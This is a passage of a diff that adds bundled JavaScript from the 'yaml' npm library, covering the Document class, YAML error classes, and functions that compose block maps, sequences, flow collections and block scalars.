+          return this.contents !== void 0;
+        return identity3.isCollection(this.contents) ? this.contents.hasIn(path6) : false;
+      }
+      /**
+       * Sets a value in this document. For `!!set`, `value` needs to be a
+       * boolean to add/remove the item from the set.
+       */
+      set(key, value) {
+        if (this.contents == null) {
+          this.contents = Collection.collectionFromPath(this.schema, [key], value);
+        } else if (assertCollection(this.contents)) {
+          this.contents.set(key, value);
+        }
+      }
+      /**
+       * Sets a value in this document. For `!!set`, `value` needs to be a
+       * boolean to add/remove the item from the set.
+       */
+      setIn(path6, value) {
+        if (Collection.isEmptyPath(path6)) {
+          this.contents = value;
+        } else if (this.contents == null) {
+          this.contents = Collection.collectionFromPath(this.schema, Array.from(path6), value);
+        } else if (assertCollection(this.contents)) {
+          this.contents.setIn(path6, value);
+        }
+      }
+      /**
+       * Change the YAML version and schema used by the document.
+       * A `null` version disables support for directives, explicit tags, anchors, and aliases.
+       * It also requires the `schema` option to be given as a `Schema` instance value.
+       *
+       * Overrides all previously set schema options.
+       */
+      setSchema(version, options = {}) {
+        if (typeof version === "number")
+          version = String(version);
+        let opt;
+        switch (version) {
+          case "1.1":
+            if (this.directives)
+              this.directives.yaml.version = "1.1";
+            else
+              this.directives = new directives.Directives({ version: "1.1" });
+            opt = { resolveKnownTags: false, schema: "yaml-1.1" };
+            break;
+          case "1.2":
+          case "next":
+            if (this.directives)
+              this.directives.yaml.version = version;
+            else
+              this.directives = new directives.Directives({ version });
+            opt = { resolveKnownTags: true, schema: "core" };
+            break;
+          case null:
+            if (this.directives)
+              delete this.directives;
+            opt = null;
+            break;
+          default: {
+            const sv = JSON.stringify(version);
+            throw new Error(`Expected '1.1', '1.2' or null as first argument, but found: ${sv}`);
+          }
+        }
+        if (options.schema instanceof Object)
+          this.schema = options.schema;
+        else if (opt)
+          this.schema = new Schema.Schema(Object.assign(opt, options));
+        else
+          throw new Error(`With a null YAML version, the { schema: Schema } option is required`);
+      }
+      // json & jsonArg are only used from toJSON()
+      toJS({ json, jsonArg, mapAsMap, maxAliasCount, onAnchor, reviver } = {}) {
+        const ctx = {
+          anchors: /* @__PURE__ */ new Map(),
+          doc: this,
+          keep: !json,
+          mapAsMap: mapAsMap === true,
+          mapKeyWarned: false,
+          maxAliasCount: typeof maxAliasCount === "number" ? maxAliasCount : 100
+        };
+        const res = toJS.toJS(this.contents, jsonArg ?? "", ctx);
+        if (typeof onAnchor === "function")
+          for (const { count: count2, res: res2 } of ctx.anchors.values())
+            onAnchor(res2, count2);
+        return typeof reviver === "function" ? applyReviver.applyReviver(reviver, { "": res }, "", res) : res;
+      }
+      /**
+       * A JSON representation of the document `contents`.
+       *
+       * @param jsonArg Used by `JSON.stringify` to indicate the array index or
+       *   property name.
+       */
+      toJSON(jsonArg, onAnchor) {
+        return this.toJS({ json: true, jsonArg, mapAsMap: false, onAnchor });
+      }
+      /** A YAML representation of the document. */
+      toString(options = {}) {
+        if (this.errors.length > 0)
+          throw new Error("Document with errors cannot be stringified");
+        if ("indent" in options && (!Number.isInteger(options.indent) || Number(options.indent) <= 0)) {
+          const s = JSON.stringify(options.indent);
+          throw new Error(`"indent" option must be a positive integer, not ${s}`);
+        }
+        return stringifyDocument.stringifyDocument(this, options);
+      }
+    };
+    function assertCollection(contents) {
+      if (identity3.isCollection(contents))
+        return true;
+      throw new Error("Expected a YAML collection as document contents");
+    }
+    exports.Document = Document;
+  }
+});
+
+// node_modules/yaml/dist/errors.js
+var require_errors3 = __commonJS({
+  "node_modules/yaml/dist/errors.js"(exports) {
+    "use strict";
+    var YAMLError = class extends Error {
+      constructor(name2, pos, code, message4) {
+        super();
+        this.name = name2;
+        this.code = code;
+        this.message = message4;
+        this.pos = pos;
+      }
+    };
+    var YAMLParseError = class extends YAMLError {
+      constructor(pos, code, message4) {
+        super("YAMLParseError", pos, code, message4);
+      }
+    };
+    var YAMLWarning = class extends YAMLError {
+      constructor(pos, code, message4) {
+        super("YAMLWarning", pos, code, message4);
+      }
+    };
+    var prettifyError = (src, lc) => (error2) => {
+      if (error2.pos[0] === -1)
+        return;
+      error2.linePos = error2.pos.map((pos) => lc.linePos(pos));
+      const { line, col } = error2.linePos[0];
+      error2.message += ` at line ${line}, column ${col}`;
+      let ci = col - 1;
+      let lineStr = src.substring(lc.lineStarts[line - 1], lc.lineStarts[line]).replace(/[\n\r]+$/, "");
+      if (ci >= 60 && lineStr.length > 80) {
+        const trimStart = Math.min(ci - 39, lineStr.length - 79);
+        lineStr = "…" + lineStr.substring(trimStart);
+        ci -= trimStart - 1;
+      }
+      if (lineStr.length > 80)
+        lineStr = lineStr.substring(0, 79) + "…";
+      if (line > 1 && /^ *$/.test(lineStr.substring(0, ci))) {
+        let prev = src.substring(lc.lineStarts[line - 2], lc.lineStarts[line - 1]);
+        if (prev.length > 80)
+          prev = prev.substring(0, 79) + "…\n";
+        lineStr = prev + lineStr;
+      }
+      if (/[^ ]/.test(lineStr)) {
+        let count2 = 1;
+        const end = error2.linePos[1];
+        if (end?.line === line && end.col > col) {
+          count2 = Math.max(1, Math.min(end.col - col, 80 - ci));
+        }
+        const pointer = " ".repeat(ci) + "^".repeat(count2);
+        error2.message += `:
+
+${lineStr}
+${pointer}
+`;
+      }
+    };
+    exports.YAMLError = YAMLError;
+    exports.YAMLParseError = YAMLParseError;
+    exports.YAMLWarning = YAMLWarning;
+    exports.prettifyError = prettifyError;
+  }
+});
+
+// node_modules/yaml/dist/compose/resolve-props.js
+var require_resolve_props = __commonJS({
+  "node_modules/yaml/dist/compose/resolve-props.js"(exports) {
+    "use strict";
+    function resolveProps(tokens, { flow, indicator, next, offset, onError, parentIndent, startOnNewline }) {
+      let spaceBefore = false;
+      let atNewline = startOnNewline;
+      let hasSpace = startOnNewline;
+      let comment = "";
+      let commentSep = "";
+      let hasNewline = false;
+      let reqSpace = false;
+      let tab = null;
+      let anchor = null;
+      let tag = null;
+      let newlineAfterProp = null;
+      let comma = null;
+      let found = null;
+      let start2 = null;
+      for (const token of tokens) {
+        if (reqSpace) {
+          if (token.type !== "space" && token.type !== "newline" && token.type !== "comma")
+            onError(token.offset, "MISSING_CHAR", "Tags and anchors must be separated from the next token by white space");
+          reqSpace = false;
+        }
+        if (tab) {
+          if (atNewline && token.type !== "comment" && token.type !== "newline") {
+            onError(tab, "TAB_AS_INDENT", "Tabs are not allowed as indentation");
+          }
+          tab = null;
+        }
+        switch (token.type) {
+          case "space":
+            if (!flow && (indicator !== "doc-start" || next?.type !== "flow-collection") && token.source.includes("	")) {
+              tab = token;
+            }
+            hasSpace = true;
+            break;
+          case "comment": {
+            if (!hasSpace)
+              onError(token, "MISSING_CHAR", "Comments must be separated from other tokens by white space characters");
+            const cb = token.source.substring(1) || " ";
+            if (!comment)
+              comment = cb;
+            else
+              comment += commentSep + cb;
+            commentSep = "";
+            atNewline = false;
+            break;
+          }
+          case "newline":
+            if (atNewline) {
+              if (comment)
+                comment += token.source;
+              else if (!found || indicator !== "seq-item-ind")
+                spaceBefore = true;
+            } else
+              commentSep += token.source;
+            atNewline = true;
+            hasNewline = true;
+            if (anchor || tag)
+              newlineAfterProp = token;
+            hasSpace = true;
+            break;
+          case "anchor":
+            if (anchor)
+              onError(token, "MULTIPLE_ANCHORS", "A node can have at most one anchor");
+            if (token.source.endsWith(":"))
+              onError(token.offset + token.source.length - 1, "BAD_ALIAS", "Anchor ending in : is ambiguous", true);
+            anchor = token;
+            start2 ?? (start2 = token.offset);
+            atNewline = false;
+            hasSpace = false;
+            reqSpace = true;
+            break;
+          case "tag": {
+            if (tag)
+              onError(token, "MULTIPLE_TAGS", "A node can have at most one tag");
+            tag = token;
+            start2 ?? (start2 = token.offset);
+            atNewline = false;
+            hasSpace = false;
+            reqSpace = true;
+            break;
+          }
+          case indicator:
+            if (anchor || tag)
+              onError(token, "BAD_PROP_ORDER", `Anchors and tags must be after the ${token.source} indicator`);
+            if (found)
+              onError(token, "UNEXPECTED_TOKEN", `Unexpected ${token.source} in ${flow ?? "collection"}`);
+            found = token;
+            atNewline = indicator === "seq-item-ind" || indicator === "explicit-key-ind";
+            hasSpace = false;
+            break;
+          case "comma":
+            if (flow) {
+              if (comma)
+                onError(token, "UNEXPECTED_TOKEN", `Unexpected , in ${flow}`);
+              comma = token;
+              atNewline = false;
+              hasSpace = false;
+              break;
+            }
+          // else fallthrough
+          default:
+            onError(token, "UNEXPECTED_TOKEN", `Unexpected ${token.type} token`);
+            atNewline = false;
+            hasSpace = false;
+        }
+      }
+      const last = tokens[tokens.length - 1];
+      const end = last ? last.offset + last.source.length : offset;
+      if (reqSpace && next && next.type !== "space" && next.type !== "newline" && next.type !== "comma" && (next.type !== "scalar" || next.source !== "")) {
+        onError(next.offset, "MISSING_CHAR", "Tags and anchors must be separated from the next token by white space");
+      }
+      if (tab && (atNewline && tab.indent <= parentIndent || next?.type === "block-map" || next?.type === "block-seq"))
+        onError(tab, "TAB_AS_INDENT", "Tabs are not allowed as indentation");
+      return {
+        comma,
+        found,
+        spaceBefore,
+        comment,
+        hasNewline,
+        anchor,
+        tag,
+        newlineAfterProp,
+        end,
+        start: start2 ?? end
+      };
+    }
+    exports.resolveProps = resolveProps;
+  }
+});
+
+// node_modules/yaml/dist/compose/util-contains-newline.js
+var require_util_contains_newline = __commonJS({
+  "node_modules/yaml/dist/compose/util-contains-newline.js"(exports) {
+    "use strict";
+    function containsNewline(key) {
+      if (!key)
+        return null;
+      switch (key.type) {
+        case "alias":
+        case "scalar":
+        case "double-quoted-scalar":
+        case "single-quoted-scalar":
+          if (key.source.includes("\n"))
+            return true;
+          if (key.end) {
+            for (const st of key.end)
+              if (st.type === "newline")
+                return true;
+          }
+          return false;
+        case "flow-collection":
+          for (const it of key.items) {
+            for (const st of it.start)
+              if (st.type === "newline")
+                return true;
+            if (it.sep) {
+              for (const st of it.sep)
+                if (st.type === "newline")
+                  return true;
+            }
+            if (containsNewline(it.key) || containsNewline(it.value))
+              return true;
+          }
+          return false;
+        default:
+          return true;
+      }
+    }
+    exports.containsNewline = containsNewline;
+  }
+});
+
+// node_modules/yaml/dist/compose/util-flow-indent-check.js
+var require_util_flow_indent_check = __commonJS({
+  "node_modules/yaml/dist/compose/util-flow-indent-check.js"(exports) {
+    "use strict";
+    var utilContainsNewline = require_util_contains_newline();
+    function flowIndentCheck(indent, fc, onError) {
+      if (fc?.type === "flow-collection") {
+        const end = fc.end[0];
+        if (end.indent === indent && (end.source === "]" || end.source === "}") && utilContainsNewline.containsNewline(fc)) {
+          const msg = "Flow end indicator should be more indented than parent";
+          onError(end, "BAD_INDENT", msg, true);
+        }
+      }
+    }
+    exports.flowIndentCheck = flowIndentCheck;
+  }
+});
+
+// node_modules/yaml/dist/compose/util-map-includes.js
+var require_util_map_includes = __commonJS({
+  "node_modules/yaml/dist/compose/util-map-includes.js"(exports) {
+    "use strict";
+    var identity3 = require_identity();
+    function mapIncludes(ctx, items, search) {
+      const { uniqueKeys } = ctx.options;
+      if (uniqueKeys === false)
+        return false;
+      const isEqual = typeof uniqueKeys === "function" ? uniqueKeys : (a2, b) => a2 === b || identity3.isScalar(a2) && identity3.isScalar(b) && a2.value === b.value;
+      return items.some((pair) => isEqual(pair.key, search));
+    }
+    exports.mapIncludes = mapIncludes;
+  }
+});
+
+// node_modules/yaml/dist/compose/resolve-block-map.js
+var require_resolve_block_map = __commonJS({
+  "node_modules/yaml/dist/compose/resolve-block-map.js"(exports) {
+    "use strict";
+    var Pair = require_Pair();
+    var YAMLMap = require_YAMLMap();
+    var resolveProps = require_resolve_props();
+    var utilContainsNewline = require_util_contains_newline();
+    var utilFlowIndentCheck = require_util_flow_indent_check();
+    var utilMapIncludes = require_util_map_includes();
+    var startColMsg = "All mapping items must start at the same column";
+    function resolveBlockMap({ composeNode, composeEmptyNode }, ctx, bm, onError, tag) {
+      const NodeClass = tag?.nodeClass ?? YAMLMap.YAMLMap;
+      const map = new NodeClass(ctx.schema);
+      if (ctx.atRoot)
+        ctx.atRoot = false;
+      let offset = bm.offset;
+      let commentEnd = null;
+      for (const collItem of bm.items) {
+        const { start: start2, key, sep: sep5, value } = collItem;
+        const keyProps = resolveProps.resolveProps(start2, {
+          indicator: "explicit-key-ind",
+          next: key ?? sep5?.[0],
+          offset,
+          onError,
+          parentIndent: bm.indent,
+          startOnNewline: true
+        });
+        const implicitKey = !keyProps.found;
+        if (implicitKey) {
+          if (key) {
+            if (key.type === "block-seq")
+              onError(offset, "BLOCK_AS_IMPLICIT_KEY", "A block sequence may not be used as an implicit map key");
+            else if ("indent" in key && key.indent !== bm.indent)
+              onError(offset, "BAD_INDENT", startColMsg);
+          }
+          if (!keyProps.anchor && !keyProps.tag && !sep5) {
+            commentEnd = keyProps.end;
+            if (keyProps.comment) {
+              if (map.comment)
+                map.comment += "\n" + keyProps.comment;
+              else
+                map.comment = keyProps.comment;
+            }
+            continue;
+          }
+          if (keyProps.newlineAfterProp || utilContainsNewline.containsNewline(key)) {
+            onError(key ?? start2[start2.length - 1], "MULTILINE_IMPLICIT_KEY", "Implicit keys need to be on a single line");
+          }
+        } else if (keyProps.found?.indent !== bm.indent) {
+          onError(offset, "BAD_INDENT", startColMsg);
+        }
+        ctx.atKey = true;
+        const keyStart = keyProps.end;
+        const keyNode = key ? composeNode(ctx, key, keyProps, onError) : composeEmptyNode(ctx, keyStart, start2, null, keyProps, onError);
+        if (ctx.schema.compat)
+          utilFlowIndentCheck.flowIndentCheck(bm.indent, key, onError);
+        ctx.atKey = false;
+        if (utilMapIncludes.mapIncludes(ctx, map.items, keyNode))
+          onError(keyStart, "DUPLICATE_KEY", "Map keys must be unique");
+        const valueProps = resolveProps.resolveProps(sep5 ?? [], {
+          indicator: "map-value-ind",
+          next: value,
+          offset: keyNode.range[2],
+          onError,
+          parentIndent: bm.indent,
+          startOnNewline: !key || key.type === "block-scalar"
+        });
+        offset = valueProps.end;
+        if (valueProps.found) {
+          if (implicitKey) {
+            if (value?.type === "block-map" && !valueProps.hasNewline)
+              onError(offset, "BLOCK_AS_IMPLICIT_KEY", "Nested mappings are not allowed in compact mappings");
+            if (ctx.options.strict && keyProps.start < valueProps.found.offset - 1024)
+              onError(keyNode.range, "KEY_OVER_1024_CHARS", "The : indicator must be at most 1024 chars after the start of an implicit block mapping key");
+          }
+          const valueNode = value ? composeNode(ctx, value, valueProps, onError) : composeEmptyNode(ctx, offset, sep5, null, valueProps, onError);
+          if (ctx.schema.compat)
+            utilFlowIndentCheck.flowIndentCheck(bm.indent, value, onError);
+          offset = valueNode.range[2];
+          const pair = new Pair.Pair(keyNode, valueNode);
+          if (ctx.options.keepSourceTokens)
+            pair.srcToken = collItem;
+          map.items.push(pair);
+        } else {
+          if (implicitKey)
+            onError(keyNode.range, "MISSING_CHAR", "Implicit map keys need to be followed by map values");
+          if (valueProps.comment) {
+            if (keyNode.comment)
+              keyNode.comment += "\n" + valueProps.comment;
+            else
+              keyNode.comment = valueProps.comment;
+          }
+          const pair = new Pair.Pair(keyNode);
+          if (ctx.options.keepSourceTokens)
+            pair.srcToken = collItem;
+          map.items.push(pair);
+        }
+      }
+      if (commentEnd && commentEnd < offset)
+        onError(commentEnd, "IMPOSSIBLE", "Map comment with trailing content");
+      map.range = [bm.offset, offset, commentEnd ?? offset];
+      return map;
+    }
+    exports.resolveBlockMap = resolveBlockMap;
+  }
+});
+
+// node_modules/yaml/dist/compose/resolve-block-seq.js
+var require_resolve_block_seq = __commonJS({
+  "node_modules/yaml/dist/compose/resolve-block-seq.js"(exports) {
+    "use strict";
+    var YAMLSeq = require_YAMLSeq();
+    var resolveProps = require_resolve_props();
+    var utilFlowIndentCheck = require_util_flow_indent_check();
+    function resolveBlockSeq({ composeNode, composeEmptyNode }, ctx, bs, onError, tag) {
+      const NodeClass = tag?.nodeClass ?? YAMLSeq.YAMLSeq;
+      const seq = new NodeClass(ctx.schema);
+      if (ctx.atRoot)
+        ctx.atRoot = false;
+      if (ctx.atKey)
+        ctx.atKey = false;
+      let offset = bs.offset;
+      let commentEnd = null;
+      for (const { start: start2, value } of bs.items) {
+        const props = resolveProps.resolveProps(start2, {
+          indicator: "seq-item-ind",
+          next: value,
+          offset,
+          onError,
+          parentIndent: bs.indent,
+          startOnNewline: true
+        });
+        if (!props.found) {
+          if (props.anchor || props.tag || value) {
+            if (value?.type === "block-seq")
+              onError(props.end, "BAD_INDENT", "All sequence items must start at the same column");
+            else
+              onError(offset, "MISSING_CHAR", "Sequence item without - indicator");
+          } else {
+            commentEnd = props.end;
+            if (props.comment)
+              seq.comment = props.comment;
+            continue;
+          }
+        }
+        const node = value ? composeNode(ctx, value, props, onError) : composeEmptyNode(ctx, props.end, start2, null, props, onError);
+        if (ctx.schema.compat)
+          utilFlowIndentCheck.flowIndentCheck(bs.indent, value, onError);
+        offset = node.range[2];
+        seq.items.push(node);
+      }
+      seq.range = [bs.offset, offset, commentEnd ?? offset];
+      return seq;
+    }
+    exports.resolveBlockSeq = resolveBlockSeq;
+  }
+});
+
+// node_modules/yaml/dist/compose/resolve-end.js
+var require_resolve_end = __commonJS({
+  "node_modules/yaml/dist/compose/resolve-end.js"(exports) {
+    "use strict";
+    function resolveEnd(end, offset, reqSpace, onError) {
+      let comment = "";
+      if (end) {
+        let hasSpace = false;
+        let sep5 = "";
+        for (const token of end) {
+          const { source, type } = token;
+          switch (type) {
+            case "space":
+              hasSpace = true;
+              break;
+            case "comment": {
+              if (reqSpace && !hasSpace)
+                onError(token, "MISSING_CHAR", "Comments must be separated from other tokens by white space characters");
+              const cb = source.substring(1) || " ";
+              if (!comment)
+                comment = cb;
+              else
+                comment += sep5 + cb;
+              sep5 = "";
+              break;
+            }
+            case "newline":
+              if (comment)
+                sep5 += source;
+              hasSpace = true;
+              break;
+            default:
+              onError(token, "UNEXPECTED_TOKEN", `Unexpected ${type} at node end`);
+          }
+          offset += source.length;
+        }
+      }
+      return { comment, offset };
+    }
+    exports.resolveEnd = resolveEnd;
+  }
+});
+
+// node_modules/yaml/dist/compose/resolve-flow-collection.js
+var require_resolve_flow_collection = __commonJS({
+  "node_modules/yaml/dist/compose/resolve-flow-collection.js"(exports) {
+    "use strict";
+    var identity3 = require_identity();
+    var Pair = require_Pair();
+    var YAMLMap = require_YAMLMap();
+    var YAMLSeq = require_YAMLSeq();
+    var resolveEnd = require_resolve_end();
+    var resolveProps = require_resolve_props();
+    var utilContainsNewline = require_util_contains_newline();
+    var utilMapIncludes = require_util_map_includes();
+    var blockMsg = "Block collections are not allowed within flow collections";
+    var isBlock = (token) => token && (token.type === "block-map" || token.type === "block-seq");
+    function resolveFlowCollection({ composeNode, composeEmptyNode }, ctx, fc, onError, tag) {
+      const isMap2 = fc.start.source === "{";
+      const fcName = isMap2 ? "flow map" : "flow sequence";
+      const NodeClass = tag?.nodeClass ?? (isMap2 ? YAMLMap.YAMLMap : YAMLSeq.YAMLSeq);
+      const coll = new NodeClass(ctx.schema);
+      coll.flow = true;
+      const atRoot = ctx.atRoot;
+      if (atRoot)
+        ctx.atRoot = false;
+      if (ctx.atKey)
+        ctx.atKey = false;
+      let offset = fc.offset + fc.start.source.length;
+      for (let i3 = 0; i3 < fc.items.length; ++i3) {
+        const collItem = fc.items[i3];
+        const { start: start2, key, sep: sep5, value } = collItem;
+        const props = resolveProps.resolveProps(start2, {
+          flow: fcName,
+          indicator: "explicit-key-ind",
+          next: key ?? sep5?.[0],
+          offset,
+          onError,
+          parentIndent: fc.indent,
+          startOnNewline: false
+        });
+        if (!props.found) {
+          if (!props.anchor && !props.tag && !sep5 && !value) {
+            if (i3 === 0 && props.comma)
+              onError(props.comma, "UNEXPECTED_TOKEN", `Unexpected , in ${fcName}`);
+            else if (i3 < fc.items.length - 1)
+              onError(props.start, "UNEXPECTED_TOKEN", `Unexpected empty item in ${fcName}`);
+            if (props.comment) {
+              if (coll.comment)
+                coll.comment += "\n" + props.comment;
+              else
+                coll.comment = props.comment;
+            }
+            offset = props.end;
+            continue;
+          }
+          if (!isMap2 && ctx.options.strict && utilContainsNewline.containsNewline(key))
+            onError(
+              key,
+              // checked by containsNewline()
+              "MULTILINE_IMPLICIT_KEY",
+              "Implicit keys of flow sequence pairs need to be on a single line"
+            );
+        }
+        if (i3 === 0) {
+          if (props.comma)
+            onError(props.comma, "UNEXPECTED_TOKEN", `Unexpected , in ${fcName}`);
+        } else {
+          if (!props.comma)
+            onError(props.start, "MISSING_CHAR", `Missing , between ${fcName} items`);
+          if (props.comment) {
+            let prevItemComment = "";
+            loop: for (const st of start2) {
+              switch (st.type) {
+                case "comma":
+                case "space":
+                  break;
+                case "comment":
+                  prevItemComment = st.source.substring(1);
+                  break loop;
+                default:
+                  break loop;
+              }
+            }
+            if (prevItemComment) {
+              let prev = coll.items[coll.items.length - 1];
+              if (identity3.isPair(prev))
+                prev = prev.value ?? prev.key;
+              if (prev.comment)
+                prev.comment += "\n" + prevItemComment;
+              else
+                prev.comment = prevItemComment;
+              props.comment = props.comment.substring(prevItemComment.length + 1);
+            }
+          }
+        }
+        if (!isMap2 && !sep5 && !props.found) {
+          const valueNode = value ? composeNode(ctx, value, props, onError) : composeEmptyNode(ctx, props.end, sep5, null, props, onError);
+          coll.items.push(valueNode);
+          offset = valueNode.range[2];
+          if (isBlock(value))
+            onError(valueNode.range, "BLOCK_IN_FLOW", blockMsg);
+        } else {
+          ctx.atKey = true;
+          const keyStart = props.end;
+          const keyNode = key ? composeNode(ctx, key, props, onError) : composeEmptyNode(ctx, keyStart, start2, null, props, onError);
+          if (isBlock(key))
+            onError(keyNode.range, "BLOCK_IN_FLOW", blockMsg);
+          ctx.atKey = false;
+          const valueProps = resolveProps.resolveProps(sep5 ?? [], {
+            flow: fcName,
+            indicator: "map-value-ind",
+            next: value,
+            offset: keyNode.range[2],
+            onError,
+            parentIndent: fc.indent,
+            startOnNewline: false
+          });
+          if (valueProps.found) {
+            if (!isMap2 && !props.found && ctx.options.strict) {
+              if (sep5)
+                for (const st of sep5) {
+                  if (st === valueProps.found)
+                    break;
+                  if (st.type === "newline") {
+                    onError(st, "MULTILINE_IMPLICIT_KEY", "Implicit keys of flow sequence pairs need to be on a single line");
+                    break;
+                  }
+                }
+              if (props.start < valueProps.found.offset - 1024)
+                onError(valueProps.found, "KEY_OVER_1024_CHARS", "The : indicator must be at most 1024 chars after the start of an implicit flow sequence key");
+            }
+          } else if (value) {
+            if ("source" in value && value.source?.[0] === ":")
+              onError(value, "MISSING_CHAR", `Missing space after : in ${fcName}`);
+            else
+              onError(valueProps.start, "MISSING_CHAR", `Missing , or : between ${fcName} items`);
+          }
+          const valueNode = value ? composeNode(ctx, value, valueProps, onError) : valueProps.found ? composeEmptyNode(ctx, valueProps.end, sep5, null, valueProps, onError) : null;
+          if (valueNode) {
+            if (isBlock(value))
+              onError(valueNode.range, "BLOCK_IN_FLOW", blockMsg);
+          } else if (valueProps.comment) {
+            if (keyNode.comment)
+              keyNode.comment += "\n" + valueProps.comment;
+            else
+              keyNode.comment = valueProps.comment;
+          }
+          const pair = new Pair.Pair(keyNode, valueNode);
+          if (ctx.options.keepSourceTokens)
+            pair.srcToken = collItem;
+          if (isMap2) {
+            const map = coll;
+            if (utilMapIncludes.mapIncludes(ctx, map.items, keyNode))
+              onError(keyStart, "DUPLICATE_KEY", "Map keys must be unique");
+            map.items.push(pair);
+          } else {
+            const map = new YAMLMap.YAMLMap(ctx.schema);
+            map.flow = true;
+            map.items.push(pair);
+            const endRange = (valueNode ?? keyNode).range;
+            map.range = [keyNode.range[0], endRange[1], endRange[2]];
+            coll.items.push(map);
+          }
+          offset = valueNode ? valueNode.range[2] : valueProps.end;
+        }
+      }
+      const expectedEnd = isMap2 ? "}" : "]";
+      const [ce, ...ee] = fc.end;
+      let cePos = offset;
+      if (ce?.source === expectedEnd)
+        cePos = ce.offset + ce.source.length;
+      else {
+        const name2 = fcName[0].toUpperCase() + fcName.substring(1);
+        const msg = atRoot ? `${name2} must end with a ${expectedEnd}` : `${name2} in block collection must be sufficiently indented and end with a ${expectedEnd}`;
+        onError(offset, atRoot ? "MISSING_CHAR" : "BAD_INDENT", msg);
+        if (ce && ce.source.length !== 1)
+          ee.unshift(ce);
+      }
+      if (ee.length > 0) {
+        const end = resolveEnd.resolveEnd(ee, cePos, ctx.options.strict, onError);
+        if (end.comment) {
+          if (coll.comment)
+            coll.comment += "\n" + end.comment;
+          else
+            coll.comment = end.comment;
+        }
+        coll.range = [fc.offset, cePos, end.offset];
+      } else {
+        coll.range = [fc.offset, cePos, cePos];
+      }
+      return coll;
+    }
+    exports.resolveFlowCollection = resolveFlowCollection;
+  }
+});
+
+// node_modules/yaml/dist/compose/compose-collection.js
+var require_compose_collection = __commonJS({
+  "node_modules/yaml/dist/compose/compose-collection.js"(exports) {
+    "use strict";
+    var identity3 = require_identity();
+    var Scalar = require_Scalar();
+    var YAMLMap = require_YAMLMap();
+    var YAMLSeq = require_YAMLSeq();
+    var resolveBlockMap = require_resolve_block_map();
+    var resolveBlockSeq = require_resolve_block_seq();
+    var resolveFlowCollection = require_resolve_flow_collection();
+    function resolveCollection(CN, ctx, token, onError, tagName, tag) {
+      const coll = token.type === "block-map" ? resolveBlockMap.resolveBlockMap(CN, ctx, token, onError, tag) : token.type === "block-seq" ? resolveBlockSeq.resolveBlockSeq(CN, ctx, token, onError, tag) : resolveFlowCollection.resolveFlowCollection(CN, ctx, token, onError, tag);
+      const Coll = coll.constructor;
+      if (tagName === "!" || tagName === Coll.tagName) {
+        coll.tag = Coll.tagName;
+        return coll;
+      }
+      if (tagName)
+        coll.tag = tagName;
+      return coll;
+    }
+    function composeCollection(CN, ctx, token, props, onError) {
+      const tagToken = props.tag;
+      const tagName = !tagToken ? null : ctx.directives.tagName(tagToken.source, (msg) => onError(tagToken, "TAG_RESOLVE_FAILED", msg));
+      if (token.type === "block-seq") {
+        const { anchor, newlineAfterProp: nl } = props;
+        const lastProp = anchor && tagToken ? anchor.offset > tagToken.offset ? anchor : tagToken : anchor ?? tagToken;
+        if (lastProp && (!nl || nl.offset < lastProp.offset)) {
+          const message4 = "Missing newline after block sequence props";
+          onError(lastProp, "MISSING_CHAR", message4);
+        }
+      }
+      const expType = token.type === "block-map" ? "map" : token.type === "block-seq" ? "seq" : token.start.source === "{" ? "map" : "seq";
+      if (!tagToken || !tagName || tagName === "!" || tagName === YAMLMap.YAMLMap.tagName && expType === "map" || tagName === YAMLSeq.YAMLSeq.tagName && expType === "seq") {
+        return resolveCollection(CN, ctx, token, onError, tagName);
+      }
+      let tag = ctx.schema.tags.find((t) => t.tag === tagName && t.collection === expType);
+      if (!tag) {
+        const kt = ctx.schema.knownTags[tagName];
+        if (kt?.collection === expType) {
+          ctx.schema.tags.push(Object.assign({}, kt, { default: false }));
+          tag = kt;
+        } else {
+          if (kt) {
+            onError(tagToken, "BAD_COLLECTION_TYPE", `${kt.tag} used for ${expType} collection, but expects ${kt.collection ?? "scalar"}`, true);
+          } else {
+            onError(tagToken, "TAG_RESOLVE_FAILED", `Unresolved tag: ${tagName}`, true);
+          }
+          return resolveCollection(CN, ctx, token, onError, tagName);
+        }
+      }
+      const coll = resolveCollection(CN, ctx, token, onError, tagName, tag);
+      const res = tag.resolve?.(coll, (msg) => onError(tagToken, "TAG_RESOLVE_FAILED", msg), ctx.options) ?? coll;
+      const node = identity3.isNode(res) ? res : new Scalar.Scalar(res);
+      node.range = coll.range;
+      node.tag = tagName;
+      if (tag?.format)
+        node.format = tag.format;
+      return node;
+    }
+    exports.composeCollection = composeCollection;
+  }
+});
+
+// node_modules/yaml/dist/compose/resolve-block-scalar.js
+var require_resolve_block_scalar = __commonJS({
+  "node_modules/yaml/dist/compose/resolve-block-scalar.js"(exports) {
+    "use strict";
+    var Scalar = require_Scalar();
+    function resolveBlockScalar(ctx, scalar, onError) {
+      const start2 = scalar.offset;
+      const header = parseBlockScalarHeader(scalar, ctx.options.strict, onError);
+      if (!header)
+        return { value: "", type: null, comment: "", range: [start2, start2, start2] };
+      const type = header.mode === ">" ? Scalar.Scalar.BLOCK_FOLDED : Scalar.Scalar.BLOCK_LITERAL;
+      const lines = scalar.source ? splitLines2(scalar.source) : [];
+      let chompStart = lines.length;
+      for (let i3 = lines.length - 1; i3 >= 0; --i3) {
+        const content = lines[i3][1];
+        if (content === "" || content === "\r")
+          chompStart = i3;
+        else
+          break;
+      }
+      if (chompStart === 0) {
+        const value2 = header.chomp === "+" && lines.length > 0 ? "\n".repeat(Math.max(1, lines.length - 1)) : "";
+        let end2 = start2 + header.length;
+        if (scalar.source)
+          end2 += scalar.source.length;
+        return { value: value2, type, comment: header.comment, range: [start2, end2, end2] };
+      }
+      let trimIndent = scalar.indent + header.indent;
+      let offset = scalar.offset + header.length;
+      let contentStart = 0;
+      for (let i3 = 0; i3 < chompStart; ++i3) {
+        const [indent, content] = lines[i3];
+        if (content === "" || content === "\r") {
+          if (header.indent === 0 && indent.length > trimIndent)
+            trimIndent = indent.length;
+        } else {
+          if (indent.length < trimIndent) {
+            const message4 = "Block scalars with more-indented leading empty lines must use an explicit indentation indicator";
+            onError(offset + indent.length, "MISSING_CHAR", message4);
+          }
+          if (header.indent === 0)
+            trimIndent = indent.length;
+          contentStart = i3;
+          if (trimIndent === 0 && !ctx.atRoot) {
+            const message4 = "Block scalar values in collections must be indented";
+            onError(offset, "BAD_INDENT", message4);
+          }
+          break;
+        }
+        offset += indent.length + content.length + 1;
+      }
+      for (let i3 = lines.length - 1; i3 >= chompStart; --i3) {
+        if (lines[i3][0].length > trimIndent)
+          chompStart = i3 + 1;
+      }
+      let value = "";
+      let sep5 = "";
+      let prevMoreIndented = false;
+      for (let i3 = 0; i3 < contentStart; ++i3)
+        value += lines[i3][0].slice(trimIndent) + "\n";
